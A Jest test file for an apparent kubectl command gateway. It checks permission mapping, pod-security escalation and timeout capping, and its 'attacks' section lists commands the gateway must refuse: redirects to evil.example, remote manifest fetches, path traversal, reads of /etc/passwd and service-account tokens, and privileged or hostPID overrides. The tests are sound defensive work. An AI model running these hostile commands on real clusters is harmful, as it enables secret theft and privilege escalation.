import { describe, expect, test } from '@jest/globals';
import * as fc from 'fast-check';
import { allCommands, flagsOf } from '../../shared/command/grammar/grammar.ts';
import { whyRefused } from '../../shared/command/grammar/refused-flags.ts';
import { interpret } from '../../shared/command/interpret.ts';
import { interpretKubectl } from '../../shared/command/kubectl/interpret.ts';
import { refusedVerbs, verbs } from '../../shared/command/kubectl/verbs.ts';
import { parse } from '../../shared/command/parse.ts';
import { Problem } from '../../shared/errors.ts';
import { rollbackSeconds, toolSeconds } from '../../shared/command/time-limits.ts';
import { splitWords } from '../../shared/command/words.ts';
import { asked, call, context, file, refusal, sentFile } from './calls.ts';

describe('every word of the grammar was thought about', () => {
  const commands = allCommands('kubectl');

  test('each command is relayed or refused with a reason, and no table names another', () => {
    const refused = (path: readonly string[]): boolean =>
      path.some((_, index) => refusedVerbs.has(path.slice(0, index + 1).join(' ')));
    const undecided = commands.filter(({ path, parent }) => !parent && !verbs.has(path.join(' ')) && !refused(path));
    expect(undecided.map(({ path }) => path.join(' '))).toEqual([]);
    const known = new Set(commands.map(({ path }) => path.join(' ')));
    expect([...verbs.keys(), ...refusedVerbs.keys()].filter((path) => !known.has(path))).toEqual([]);
  });

  test('each flag of a relayed command is in its table or refused for every command, and no table names another', () => {
    const undecided: string[] = [];
    const unknown: string[] = [];
    for (const [path, { flags }] of verbs) {
      const all = flagsOf('kubectl', path.split(' '));
      for (const { name, own } of all) {
        if (!Object.hasOwn(flags, name) && whyRefused('kubectl', name, own) === undefined)
          undecided.push(`${path} --${name}`);
      }
      for (const name of Object.keys(flags)) {
        if (!all.some((flag) => flag.name === name)) unknown.push(`${path} --${name}`);
      }
    }
    expect(undecided).toEqual([]);
    expect(unknown).toEqual([]);
  });
});

test('a flag that no table names is refused, should the grammar ever know one', () => {
  const parsed = { ...parse(['kubectl', 'get', 'pods']), flags: new Map([['new', ['x']]]) };
  expect(refusal(() => interpretKubectl(parsed, { argv: [], files: [] }, context))).toMatchObject({ word: '--new' });
});

describe('verbs that change, and what they need', () => {
  test.each<[command: string, words: string, asked: string[]]>([
    [
      `patch deploy web -p 'spec: {replicas: 010}'`,
      'patch deployments.v1.apps/web --patch={"spec":{"replicas":8}} --field-manager=kubectl-patch --namespace=shop',
      ['get deployments.apps web in shop', 'patch deployments.apps web in shop'],
    ],
    [
      'label pods -l app=web -A tier=front',
      'label pods.v1. tier=front --selector=app=web --all-namespaces=true --field-selector=metadata.namespace!=aks-command --field-manager=kubectl-label',
      ['list pods in all namespaces', 'patch pods in all namespaces'],
    ],
    [
      'annotate deploy/web why="a reason"',
      'annotate deployments.v1.apps/web why=a reason --field-manager=kubectl-annotate --namespace=shop',
      ['get deployments.apps web in shop', 'patch deployments.apps web in shop'],
    ],
    [
      'label clusterrole reader aggregate=yes',
      'label clusterroles.v1.rbac.authorization.k8s.io/reader aggregate=yes --field-manager=kubectl-label --namespace=shop',
      [
        'get clusterroles.rbac.authorization.k8s.io reader',
        'patch clusterroles.rbac.authorization.k8s.io reader',
        'escalate clusterroles.rbac.authorization.k8s.io reader',
      ],
    ],
    [
      'set env deploy/web --list --resolve',
      'set env deployments.v1.apps/web --list=true --resolve=true --field-manager=kubectl-set --namespace=shop',
      ['get deployments.apps web in shop', 'get secrets in shop', 'get configmaps in shop'],
    ],
    [
      'set env deploy/web --from=secret/db',
      'set env deployments.v1.apps/web --from=secrets.v1./db --field-manager=kubectl-set --namespace=shop',
      ['get deployments.apps web in shop', 'patch deployments.apps web in shop', 'get secrets db in shop'],
    ],
    [
      'exec deploy/web -c app -- ls -l --color',
      'exec deployments.v1.apps/web --container=app --namespace=shop -- ls -l --color',
      ['get deployments.apps web in shop', 'list pods in shop', 'watch pods in shop', 'create pods/exec in shop'],
    ],
    [
      'cp data/x.txt team/web-1:/tmp/x -c app',
      'cp data/x.txt team/web-1:/tmp/x --container=app --namespace=shop',
      ['get pods web-1 in team', 'create pods/exec web-1 in team'],
    ],
    [
      'create rolebinding ops --role=deployer --user=ann',
      'create rolebinding ops --role=deployer --user=ann --field-manager=kubectl-create --validate=strict --namespace=shop',
      [
        'create rolebindings.rbac.authorization.k8s.io ops in shop',
        'bind roles.rbac.authorization.k8s.io deployer in shop',
      ],
    ],
    [
      'create clusterrolebinding ops --clusterrole=admin --group=ops',
      'create clusterrolebinding ops --clusterrole=admin --group=ops --field-manager=kubectl-create --validate=strict --namespace=shop',
      ['create clusterrolebindings.rbac.authorization.k8s.io ops', 'bind clusterroles.rbac.authorization.k8s.io admin'],
    ],
    [
      'create job again --from=cj/nightly',
      'create job again --from=cronjobs.v1.batch/nightly --field-manager=kubectl-create --validate=strict --namespace=shop',
      ['create jobs.batch again in shop', 'get cronjobs.batch nightly in shop'],
    ],
    [
      'create deployment fresh --image=web -o yaml --dry-run=client',
      'create deployment fresh --image=web --output=yaml --dry-run=client --field-manager=kubectl-create --validate=strict --namespace=shop',
      ['create deployments.apps fresh in shop', 'get deployments.apps fresh in shop'],
    ],
    ['create token builder', 'create token builder --namespace=shop', ['create serviceaccounts/token builder in shop']],
    [
      'drain node-1 --ignore-daemonsets',
      'drain nodes.v1./node-1 --ignore-daemonsets=true --timeout=3585s --namespace=shop',
      [
        'get nodes node-1',
        'patch nodes node-1',
        'list pods in all namespaces',
        'get pods in all namespaces',
        'get daemonsets.apps in all namespaces',
        'create pods/eviction in all namespaces',
      ],
    ],
    [
      'certificate approve csr-1',
      'certificate approve certificatesigningrequests.v1.certificates.k8s.io/csr-1 --namespace=shop',
      [
        'get certificatesigningrequests.certificates.k8s.io csr-1',
        'update certificatesigningrequests.certificates.k8s.io/approval csr-1',
        'approve signers.certificates.k8s.io',
      ],
    ],
    [
      'run probe --image=probe --expose --port=80 -- sleep 1',
      'run probe --image=probe --expose=true --port=80 --field-manager=kubectl-run --namespace=shop -- sleep 1',
      ['create pods probe in shop', 'create services probe in shop'],
    ],
    [
      'debug web-1 --image=busybox --target=app',
      'debug pods.v1./web-1 --image=busybox --target=app --profile=baseline --namespace=shop',
      ['get pods web-1 in shop', 'patch pods/ephemeralcontainers web-1 in shop'],
    ],
    [
      'wait pods --all --for=condition=Ready --timeout=2h',
      'wait pods.v1. --all=true --for=condition=Ready --timeout=3585s --namespace=shop',
      ['list pods in shop', 'watch pods in shop'],
    ],
    [
      'top pods -A',
      'top pod --all-namespaces=true --field-selector=metadata.namespace!=aks-command',
      ['list pods.metrics.k8s.io in all namespaces', 'list pods in all namespaces'],
    ],
    ['cluster-info', 'cluster-info --namespace=kube-system', ['list services in kube-system']],
    [
      'auth can-i create deploy/web --in-cluster',
      'auth can-i create deployments.v1.apps/web --namespace=shop',
      ['create selfsubjectaccessreviews.authorization.k8s.io'],
    ],
  ])('kubectl %s', (command, words, attributes) => {
    const invocation = call(`kubectl ${command}`, { 'data/x.txt': 'x' });
    expect(invocation.sent.words.join(' ')).toBe(`kubectl ${words}`);
    expect(asked(invocation)).toEqual(attributes);
  });

  test.each([
    ['run probe --image=x --privileged', 'a privileged container'],
    [
      'run probe --image=x --annotations=container.apparmor.security.beta.kubernetes.io/probe=unconfined',
      'an unconfined AppArmor or seccomp profile',
    ],
    ['debug web-1 --image=x --profile=sysadmin', 'the debugging profile sysadmin'],
    ['debug web-1 --image=x --copy-to=y', 'a copy of a pod, with its service account and volumes'],
    [`patch deploy web -p '{"spec":{"template":{"spec":{"hostNetwork":true}}}}'`, 'hostNetwork'],
    [
      `patch deploy web --type=json -p '[{"op":"add","path":"/spec/template/spec/containers/0/securityContext","value":{"privileged":true}}]'`,
      'a privileged container',
    ],
    [
      `patch deploy web --type=json -p '[{"op":"copy","from":"/a","path":"/spec/template/spec/hostPID"}]'`,
      'a patch that copies or moves within a kind that runs pods',
    ],
    ['create job web --from=cronjob/web', 'a template of the cluster that nobody judged here'],
    [
      `patch pv data --type=json -p '[{"op":"copy","from":"/metadata/annotations","path":"/spec/hostPath"}]'`,
      'a patch that copies or moves within a persistent volume',
    ],
    [
      `patch pv data --type=json -p '[{"op":"move","from":"/spec/nfs","path":"/spec/local"}]'`,
      'a patch that copies or moves within a persistent volume',
    ],
  ])('kubectl %s needs podSecurity: privileged', (command, reason) => {
    expect(call(`kubectl ${command}`).podSecurity.beyondBaseline).toEqual([reason]);
  });

  test.each([
    ['set serviceaccount deploy/web builder', 'builder'],
    [`patch deploy web -p '{"spec":{"template":{"spec":{"serviceAccountName":"builder"}}}}'`, 'builder'],
    [
      `patch deploy web --type=json -p '[{"op":"replace","path":"/spec/template/spec/serviceAccountName","value":"builder"}]'`,
      'builder',
    ],
    [`patch deploy web --type=json -p '[{"op":"move","from":"/a","path":"/spec/template/spec/serviceAccount"}]'`, ''],
    ['debug web-1 --image=x --copy-to=y', ''],
    ['create job web --from=cronjob/web', ''],
  ])('kubectl %s needs the service account %j', (command, account) => {
    expect(call(`kubectl ${command}`).podSecurity.serviceAccounts).toEqual([account]);
  });

  test.each([
    ['run probe --image=x', true],
    ['create deployment web --image=x', true],
    ['create cronjob web --image=x --schedule "0 0 * * *"', true],
    ['create job web --image=x', true],
    ['rollout undo deploy/web', true],
    ['rollout undo sts/db --to-revision=2', true],
    ['rollout restart deploy/web', false],
    ['debug web-1 --image=x', true],
    ['debug web-1 --image=x --profile=restricted', false],
    [`patch deploy web -p '{"spec":{"template":{"spec":{"securityContext":{"runAsNonRoot":true}}}}}'`, true],
    [`patch deploy web -p '{"spec":{"replicas":3}}'`, false],
    [`patch deploy web -p '{"spec":{"template":{"metadata":{"annotations":{"a":"b"}}}}}'`, false],
    [
      `patch deploy web --type=json -p '[{"op":"remove","path":"/spec/template/spec/containers/0/securityContext"}]'`,
      true,
    ],
    ['set image deploy/web web=x', false],
    [`patch deploy web -p '{"spec":{"strategy":{"$retainKeys":["type"],"type":"Recreate"}}}'`, false],
    [`patch deploy web -p '{"spec":{"template":{"spec":{"$retainKeys":["containers"]}}}}'`, true],
    [podPatch(), false],
    [podPatch({ '$setElementOrder/containers': [{ name: 'new' }] }), false],
    [podPatch({ $retainKeys: ['containers'] }), true],
    [podPatch({ securityContext: { runAsNonRoot: null } }), true],
    [podPatch({ securityContext: { seccompProfile: { type: null } } }), true],
    [podPatch({ securityContext: null }), true],
    [podPatch({ securityContext: { $patch: 'delete' } }), true],
    [podPatch({}, { capabilities: { drop: ['ALL'], '$deleteFromPrimitiveList/drop': ['ALL'] } }), true],
  ])('kubectl %s: beyond restricted %s', (command, beyond) => {
    expect(call(`kubectl ${command}`).podSecurity.beyondRestricted.length > 0).toBe(beyond);
  });

  /** A patch whose own container is within "Restricted", merged into a pod that nobody sees here. */
  function podPatch(spec: object = {}, security: object = {}): string {
    const own = {
      runAsNonRoot: true,
      allowPrivilegeEscalation: false,
      seccompProfile: { type: 'RuntimeDefault' },
      capabilities: { drop: ['ALL'] },
      ...security,
    };
    const patch = { containers: [{ name: 'new', image: 'x', securityContext: own }], ...spec };
    return `patch deploy web -p '${JSON.stringify({ spec: { template: { spec: patch } } })}'`;
  }

  const RELEASE = ['install releases.helm.sh web in shop', 'upgrade releases.helm.sh web in shop'];
  const ANY_RELEASE = ['install releases.helm.sh in shop', 'upgrade releases.helm.sh in shop'];
  const TOKEN = ['create serviceaccounts/token in shop'];
  test.each<[command: string, needs: readonly string[]]>([
    ['label secret db owner=helm', ANY_RELEASE],
    ['label secrets --all owner=helm', ANY_RELEASE],
    ['label secrets -l a=b owner=helm name=web', ANY_RELEASE],
    ['label secrets --all owner-', ANY_RELEASE],
    ['label secrets -l a=b status=superseded', ANY_RELEASE],
    ['label secrets -l a=b team=web', []],
    ['label secret sh.helm.release.v1.web.v3 a=b', RELEASE],
    ['annotate secret sh.helm.release.v1.web.v3 a=b', RELEASE],
    ['create secret generic sh.helm.release.v1.web.v3 --from-literal=release=x', RELEASE],
    ['create secret generic db --type=helm.sh/release.v1 --from-literal=release=x', ANY_RELEASE],
    ['delete secret sh.helm.release.v1.web.v3', ['uninstall releases.helm.sh web in shop']],
    ['delete secrets --all', ['uninstall releases.helm.sh in shop']],
    ['delete secrets,configmaps -l owner=helm', ['uninstall releases.helm.sh in shop']],
    ['delete configmaps --all', []],
    [`patch secret sh.helm.release.v1.web.v3 -p '{"data":{"release":"eA=="}}'`, RELEASE],
    [`patch secret db -p '{"metadata":{"labels":{"owner":"helm"}}}'`, ANY_RELEASE],
    [`patch secret db --type=json -p '[{"op":"add","path":"/metadata/labels/owner","value":"helm"}]'`, ANY_RELEASE],
    [
      `patch secret db --type=json -p '[{"op":"copy","from":"/metadata/labels/b","path":"/metadata/labels/owner"}]'`,
      [...TOKEN, ...ANY_RELEASE],
    ],
    [`patch secret db --type=json -p '[{"op":"copy","from":"/data/b","path":""}]'`, [...TOKEN, ...ANY_RELEASE]],
    ['annotate secret db kubernetes.io/service-account.name=admin', ['create serviceaccounts/token admin in shop']],
    [
      `patch secret db -p '{"metadata":{"annotations":{"kubernetes.io/service-account.name":"admin"}}}'`,
      ['create serviceaccounts/token admin in shop'],
    ],
    ['label secret db owner=me', []],
    ['label configmap db owner=helm', []],
    ['label secret db owner-', []],
    [`patch secret db --type=json -p '[{"op":"copy","from":"/data/b","path":"/data/a"}]'`, []],
    ['delete secret db', []],
  ])('kubectl %s needs %j as well', (command, needs) => {
    const beyond = (one: string): boolean => / releases\.helm\.sh| serviceaccounts\/token/u.test(one);
    expect(asked(call(`kubectl ${command}`)).filter(beyond)).toEqual(needs);
  });

  test('a secret with which a machine joins the cluster is refused', () => {
    expect(refusal(() => call('kubectl create secret generic a --type=bootstrap.kubernetes.io/token'))).toMatchObject({
      word: 'bootstrap.kubernetes.io/token',
    });
  });

  test('an env file is read and rewritten', () => {
    const text = '\ufeff# a comment\r\n\n  A=1\r\n\u00a0B= two=2 \n.c-d=\n';
    for (const kind of ['configmap a', 'secret generic a']) {
      const invocation = call(`kubectl create ${kind} --from-env-file=./x/../app.env`, { 'app.env': text });
      expect(sentFile(invocation, 'app.env')).toBe('A=1\nB= two=2 \n.c-d=\n');
    }
  });

  test.each([
    ['A=1\nHOSTNAME\n', 'line 2'],
    ['  KUBERNETES_SERVICE_HOST', 'line 1'],
    ['\u0085HOSTNAME', 'line 1'],
    ['A=1\r\nB\r\n', 'line 2'],
    ['\ufeffA=1\nPATH', 'line 2'],
    ['=1', 'line 1'],
    ['1A=1', 'line 1'],
    ['..=1', 'line 1'],
    ['A=1\rB=2', 'line 1'],
    [`A=${'x'.repeat(70_000)}`, 'line 1'],
  ])('the env file %j is refused', (text, line) => {
    const run = (): ReturnType<typeof call> =>
      call('kubectl create configmap a --from-env-file=a.env', { 'a.env': text });
    expect(refusal(run)).toMatchObject({ word: 'a.env', why: expect.stringContaining(line) });
  });

  test('an env file that goes out as it is as well has to have two names', () => {
    const run = (): ReturnType<typeof call> =>
      call('kubectl create configmap a --from-env-file=a.env --from-file=a.env', { 'a.env': '# x\nA=1\n' });
    expect(refusal(run)).toMatchObject({ word: 'a.env' });
  });

  test.each([
    `patch deploy web -p '{"spec":{"template":{"spec":{"containers":[{"name":"a","image":"b"}]}}}}'`,
    `patch deploy web --type=json -p '[{"op":"remove","path":"/spec/template/spec/hostNetwork"}]'`,
    'set serviceaccount deploy/web default',
    'debug web-1 --image=x --profile=restricted',
  ])('kubectl %s does not', (command) => {
    expect(call(`kubectl ${command}`).podSecurity).toMatchObject({ beyondBaseline: [], serviceAccounts: [] });
  });

  test('what a copy into a container reads is uploaded, and nothing else is sent', () => {
    const { sent } = call('kubectl cp data web-1:/srv', { 'data/a': '1', 'data/b/c': '2', other: '3' });
    expect(sent.files.map(({ path }) => path)).toEqual(['data/a', 'data/b/c']);
  });

  test('a patch file is judged, and written again by the gateway', () => {
    const invocation = call('kubectl patch deploy web --patch-file=p.yaml', { 'p.yaml': 'spec: {paused: yes}' });
    expect(sentFile(invocation, 'p.yaml')).toBe('{"spec":{"paused":true}}');
  });

  test.each([
    'apply -f m -o go-template-file=m',
    'apply -f ./m -o jsonpath-file=m',
    'patch deploy x --patch-file=m -o custom-columns-file=./m',
    'patch -f m --patch-file=m',
  ])('a file that is judged cannot go out as it came: %s', (command) => {
    const text = 'apiVersion: v1\nkind: Pod\nmetadata: {name: a}';
    expect(refusal(() => call(`kubectl ${command}`, { m: text }))).toMatchObject({ word: 'm' });
  });

  test('a template prints the object, with and without -o', () => {
    for (const flags of ['-o json', '--template={{.data}}', '-o go-template={{.data}}']) {
      const argv = ['kubectl', 'create', 'configmap', 'a', ...flags.split(' ')];
      expect(asked(interpret({ argv, files: [] }, context))).toContain('get configmaps a in shop');
    }
    expect(asked(call('kubectl create configmap a -o name'))).toEqual(['create configmaps a in shop']);
  });

  test('secrets are marked, so that they travel in the context, and are redacted', () => {
    const invocation = call('kubectl create secret generic s --from-literal=password=hunter2');
    expect(invocation.sent.secret).toBe(true);
    expect(JSON.stringify(invocation.argv)).not.toContain('hunter2');
    expect(call('kubectl get pods').sent.secret).toBe(false);
    expect(call('kubectl set env deploy/web A=b').sent.secret).toBe(true);
  });

  test('a name is what kubectl makes of it: cut for a service, whole for an autoscaler, unknown with a hash behind it', () => {
    const long = `${'a'.repeat(70)}.b`;
    expect(asked(call(`kubectl expose deploy ${long} --port=80`))).toContain(
      `create services ${long.slice(0, 63)} in shop`,
    );
    expect(asked(call(`kubectl autoscale deploy ${long} --max=3`))).toContain(
      `create horizontalpodautoscalers.autoscaling ${long} in shop`,
    );
    expect(asked(call('kubectl create configmap a --from-literal=b=c --append-hash'))).toEqual([
      'create configmaps in shop',
    ]);
    expect(asked(call('kubectl create secret generic a --from-literal=b=c --append-hash'))).toEqual([
      'create secrets in shop',
    ]);
  });

  test.each<[command: string, spelt: readonly string[], not: string]>([
    ['apply -f m', ['--field-manager=kubectl-client-side-apply', '--validate=strict'], '--cascade'],
    ['apply -f m --server-side', ['--field-manager=kubectl'], '--cascade'],
    ['apply -f m --server-side --field-manager=ci', ['--field-manager=ci'], '--field-manager=kubectl'],
    ['apply -f m --force', ['--cascade=background'], '--profile'],
    ['replace -f m --force --cascade=orphan', ['--cascade=orphan'], '--cascade=background'],
    ['delete -f m', ['--cascade=background'], '--validate'],
    ['debug web --image=busybox', ['--profile=baseline'], '--validate'],
    ['debug web --image=busybox --profile=restricted', ['--profile=restricted'], '--profile=baseline'],
    ['get -f m', [], '--validate'],
  ])('what another version might take otherwise is spelt out: %s', (command, spelt, not) => {
    const { words } = call(`kubectl ${command}`, { m: 'apiVersion: v1\nkind: Pod\nmetadata: {name: a}' }).sent;
    expect(words).toEqual(expect.arrayContaining([...spelt]));
    expect(words.filter((word) => word === not || word.startsWith(`${not}=`))).toEqual([]);
  });

  test('a debugging container that may trace processes is privileged, and none is by default', () => {
    const profiled = (profile: string) =>
      call(`kubectl debug web --image=busybox${profile}`).podSecurity.beyondBaseline;
    expect(profiled('')).toEqual([]);
    expect(profiled(' --profile=general')).toEqual(['the debugging profile general']);
  });

  test.each<[seconds: number, command: string, timeout: string | undefined, warned: boolean]>([
    [300, 'wait pod/a --for=delete --timeout=-1s', '285s', true],
    [300, 'wait pod/a --for=delete --timeout=1h', '285s', true],
    [300, 'wait pod/a --for=delete --timeout=284s', '284s', false],
    [300, 'wait pod/a --for=delete --timeout=0s', '0s', false],
    [300, 'wait pod/a --for=delete', '30s', false],
    [20, 'wait pod/a --for=delete', '15s', false],
    [1, 'wait pod/a --for=delete', '1s', false],
    [300, 'rollout status deploy/web', '285s', false],
    [300, 'rollout status deploy/web --timeout=0s', '285s', true],
    [300, 'rollout status deploy/web --watch=false', undefined, false],
    [60, 'drain node-1', '45s', false],
    [60, 'delete pod a', '45s', false],
    [60, 'delete pod a --timeout=2m', '45s', true],
    [60, 'delete pod a --wait=false', undefined, false],
    [60, 'scale deploy/web --replicas=1 --timeout=2m', '45s', true],
    [60, 'scale deploy/web --replicas=1 --timeout=0s', '0s', false],
    [60, 'get pods', undefined, false],
    [60, 'replace --force -f -', '45s', false],
    [900, 'replace --force -f -', '300s', false],
    [60, 'replace --force -f - --timeout=0s', '45s', true],
    [60, 'replace -f -', undefined, false],
    [60, 'apply --force -f -', '45s', false],
    [60, 'apply --force -f - --timeout=2m', '45s', true],
    [60, 'apply -f -', undefined, false],
  ])('a wait ends before the command of %d s: %s', (timeoutSeconds, command, timeout, warned) => {
    const stdin = command.includes('-f -')
      ? '{"apiVersion":"v1","kind":"ConfigMap","metadata":{"name":"a"}}'
      : undefined;
    const argv = splitWords(`kubectl ${command}`);
    const invocation = interpret({ argv, files: [], stdin, timeoutSeconds }, context);
    const words = invocation.sent.words.filter((word) => word.startsWith('--timeout'));
    expect(words).toEqual(timeout === undefined ? [] : [`--timeout=${timeout}`]);
    expect(invocation.warnings.length > 0).toBe(warned);
  });

  test('whatever the time limit of a command, the tool ends before it, and a rollback has as long again', () => {
    for (let seconds = 2; seconds <= 3600; seconds++) {
      expect(toolSeconds(seconds)).toBeLessThan(seconds);
      expect(rollbackSeconds(seconds) * 2).toBeLessThanOrEqual(seconds);
    }
  });

  test.each<[seconds: number, command: string, timeout: string | undefined, warned: boolean]>([
    [300, 'exec deploy/web -- ls', undefined, false],
    [60, 'exec deploy/web -- ls', '45s', false],
    [60, 'exec deploy/web --pod-running-timeout=1h -- ls', '45s', true],
    [60, 'exec deploy/web --pod-running-timeout=10s -- ls', '10s', false],
    [20, 'logs deploy/web', '15s', false],
    [300, 'logs deploy/web', undefined, false],
    [300, 'logs deploy/web --pod-running-timeout=1h', '285s', true],
    // Their window is shorter than the time limit.
    [300, 'logs deploy/web -f --pod-running-timeout=1h', '45s', true],
    [300, 'attach deploy/web', '45s', true],
  ])('a wait for a pod ends before the command of %d s: %s', (timeoutSeconds, command, timeout, warned) => {
    const invocation = interpret({ argv: splitWords(`kubectl ${command}`), files: [], timeoutSeconds }, context);
    const words = invocation.sent.words.filter((word) => word.startsWith('--pod-running-timeout'));
    expect(words).toEqual(timeout === undefined ? [] : [`--pod-running-timeout=${timeout}`]);
    expect(invocation.warnings.length > 0).toBe(warned);
  });

  test.each([
    ['--request-timeout=2h', '--request-timeout=45s'],
    ['--request-timeout=90', '--request-timeout=45s'],
    ['--request-timeout=5', '--request-timeout=5'],
    ['--request-timeout=0', '--request-timeout=0'],
  ])('a request ends before the command: %s', (given, sent) => {
    const argv = ['kubectl', 'get', 'pods', given];
    const invocation = interpret({ argv, files: [], timeoutSeconds: 60 }, context);
    expect(invocation.sent.words).toContain(sent);
    expect(invocation.warnings).toHaveLength(given === sent ? 0 : 1);
  });

  test.each([
    ['get pods -w', true],
    ['get pods --watch-only', true],
    ['logs web -f', true],
    ['logs deploy/web --follow=true', true],
    ['events --watch', true],
    ['attach web', true],
    ['get pods --watch=false', false],
    ['logs web', false],
    ['rollout status deploy/web -w', false],
  ])('kubectl %s has no end of its own: %s', (command, endless) => {
    const invocation = call(`kubectl ${command}`);
    expect(invocation.windowSeconds).toBe(endless ? 60 : undefined);
    expect(invocation.warnings).toEqual(endless ? [expect.stringContaining('within 60 s')] : []);
  });

  test.each([
    [20, 20],
    [3000, 60],
  ])('a window says how long it is: of a command of %d s %d s', (timeoutSeconds, seconds) => {
    const argv = ['kubectl', 'get', 'pods', '--watch'];
    expect(interpret({ argv, files: [], timeoutSeconds }, context)).toMatchObject({
      windowSeconds: seconds,
      warnings: [expect.stringContaining(`within ${seconds} s`)],
    });
  });
});

describe('paths of the API server', () => {
  test.each(['/readyz', '/readyz?verbose', '/livez', '/livez?verbose', '/healthz', '/healthz?verbose', '/version'])(
    'get --raw %s needs get on the path',
    (path) => {
      const invocation = call(`kubectl get --raw '${path}' -v=1`);
      expect(asked(invocation)).toEqual([`get ${path.replace('?verbose', '')}`]);
      expect(invocation.sent.words).toEqual(['kubectl', 'get', '--v=1', `--raw=${path}`]);
    },
  );

  test.each([
    ['/apis/metrics.k8s.io/v1beta1/nodes', 'kubectl get nodes.metrics.k8s.io -o json'],
    ['/api/v1/namespaces/shop/pods', 'kubectl get pods -o json'],
    ['/apis', 'kubectl api-resources'],
    ['/metrics', '/readyz?verbose'],
  ])('get --raw %s is refused, and what to type instead is said: %s', (path, instead) => {
    expect(refusal(() => call(`kubectl get --raw ${path}`))).toMatchObject({
      word: '--raw',
      why: expect.stringContaining(instead),
    });
  });
});

describe('attacks', () => {
  test.each<[command: string, word: string]>([
    // 15: flags in disguise, names that reach the URL.
    ["get pod -- '--server=evil.example'", '--server=evil.example'],
    ["get pods -- '-sevil.example'", '-sevil.example'],
    ['delete pod/x/../../secrets/y', 'x/../../secrets/y'],
    ["logs 'web?container=other'", 'web?container=other'],
    ["create token 'builder/../x'", 'builder/../x'],
    ["label pod web -- '--server=x'", '--server=x'],
    // 16: parser differences.
    ['get pods -Ashttps://evil.example', '-s'],
    ['get pods --insecure_skip_tls_verify', '--insecure_skip_tls_verify'],
    ['get pods --names=shop', '--names'],
    ['--cache-dir get delete pod x', '--cache-dir'],
    // 18: where to and as whom.
    ['get pods --as=admin', '--as'],
    ['get pods --token=x', '--token'],
    ['get pods --kubeconfig=x', '--kubeconfig'],
    // 19
    ['get --raw /api/v1/secrets', '--raw'],
    ['config view', 'config view'],
    ['auth reconcile -f x', 'auth reconcile'],
    ['proxy', 'proxy'],
    ['port-forward web 80', 'port-forward'],
    ['edit deploy web', 'edit'],
    // 20: exec by another door.
    ['debug node/node-1 --image=x', 'nodes/node-1'],
    [`run x --image=y --overrides='{"spec":{"hostPID":true}}'`, '--overrides'],
    [`expose deploy web --overrides='{}'`, '--overrides'],
    ['debug web --image=x --custom=c.json', '--custom'],
    // 21
    ['apply -f https://evil.example/x.yaml', 'https://evil.example/x.yaml'],
    ['apply -f ok.yaml,https://evil.example/x.yaml', 'https://evil.example/x.yaml'],
    ['apply -k github.com/evil/base', '-k'],
    // 22
    ['kustomize . --enable-helm', '--enable-helm'],
    ['kustomize .', 'kustomize'],
    // 23, 24
    ['get pods --kuberc=x', '--kuberc'],
    ['plugin list', 'plugin list'],
    ['foo', 'foo'],
    // 25: local files.
    ['create configmap x --from-file=/var/run/secrets/token', '/var/run/secrets/token'],
    ['create configmap x --from-file=a=../up', '../up'],
    ['create configmap x --from-env-file=/etc/passwd', '/etc/passwd'],
    ['create secret tls x --cert=/a --key=/b', '/a'],
    ['get pods -o jsonpath-file=/etc/passwd', '/etc/passwd'],
    ['get pods -o custom-columns-file=/etc/passwd', '/etc/passwd'],
    ['get pods -o go-template-file --template=/etc/passwd', '-o go-template-file'],
    ['patch deploy web --patch-file=/etc/passwd', '/etc/passwd'],
    ['apply -f /etc/passwd', '/etc/passwd'],
    ['cp /etc/passwd web:/tmp/x', '/etc/passwd'],
    // What is looked up or created beside the object of a file would be in the pod's own namespace.
    ['expose -f ok.yaml --port=80', '--filename'],
    ['autoscale -f ok.yaml --max=3', '--filename'],
    ['set env -f ok.yaml --from=secret/x', '-f'],
    ['set env -f ok.yaml --list --resolve', '-f'],
    ['cp web:/etc/passwd ../x', '../x'],
    ['cp web:/etc/passwd /x', '/x'],
    ['cp web:/etc/passwd .kube/config', '.kube/config'],
    ['cp web:a other:b', 'other:b'],
    ["cp 'web --server=x:/a' -", 'web --server=x'],
    ['cp a/b/web:/x -', 'b/web'],
    ['cp web: -', 'web:'],
  ])('kubectl %s is refused', (command, word) => {
    expect(
      refusal(() => call(`kubectl ${command}`, { 'ok.yaml': 'kind: ConfigMap\napiVersion: v1\nmetadata: {name: a}' })),
    ).toMatchObject({ word });
  });

  test.each([
    'kubectl',
    'bin/kubectl-foo',
    '.kube/kuberc',
    'HELM',
    '.aksgw/run',
    '../x',
    '/x',
    'a\\b',
    'a/../../x',
    'a/./b',
    'a//b',
    'a:b',
    'a\u202eb',
    '-x',
  ])('an uploaded %s is refused', (path) => {
    expect(refusal(() => call('kubectl get pods', { [path]: 'x' }))).toMatchObject({ word: path });
  });

  test.each([[['a', 'A']], [['a', './a']], [['a', 'a/b']], [['A/x', 'a/y']]])('uploads %j collide', (paths) => {
    const request = { argv: ['kubectl', 'get', 'pods'], files: paths.map((path) => file(path, '')) };
    expect(() => interpret(request, context)).toThrow(Problem);
  });

  const SPELLINGS = ['k8s/app.yaml', 'k8s//app.yaml', './k8s/./app.yaml', 'x/../k8s/app.yaml', './/k8s/y/../app.yaml'];
  test.each(SPELLINGS)('%s names the uploaded k8s/app.yaml', (path) => {
    const object = '{"apiVersion":"v1","kind":"ConfigMap","metadata":{"name":"a"}}';
    for (const uploaded of ['k8s/app.yaml', './k8s/app.yaml']) {
      for (const [command, sent] of [
        ['create -f', '--filename=k8s/app.yaml'],
        ['create configmap a --from-file', '--from-file=k8s/app.yaml'],
        ['patch deploy web --patch-file', '--patch-file=k8s/app.yaml'],
        ['create secret tls a --cert c --key', '--key=k8s/app.yaml'],
        ['get pods -o', '--output=jsonpath-file=k8s/app.yaml'],
        ['events -A -o', '--output=jsonpath-file=k8s/app.yaml'],
      ] as const) {
        const value = command.endsWith('-o') ? `jsonpath-file=${path}` : path;
        const invocation = call(`kubectl ${command} ${value}`, { [uploaded]: object, c: 'x' });
        expect(invocation.sent.words).toContain(sent);
        expect(invocation.sent.files.map((one) => one.path)).toContain('k8s/app.yaml');
      }
      const cp = call(`kubectl cp ${path} web-1:/srv`, { [uploaded]: object });
      expect(cp.sent.words).toContain('k8s/app.yaml');
    }
  });

  test('a folder has as many spellings as a file', () => {
    const files = { 'k/a.json': '{"apiVersion":"v1","kind":"ConfigMap","metadata":{"name":"a"}}' };
    for (const folder of ['k', './k/', 'k/.', 'x/../k', 'k//']) {
      expect(call(`kubectl create -f ${folder}`, files).sent.words).toContain('--filename=k/a.json');
      expect(call(`kubectl create configmap a --from-file=${folder}`, files).sent.words).toContain('--from-file=k');
    }
    expect(call('kubectl create configmap a --from-file=.', { a: '1' }).sent.words).toContain('--from-file=.');
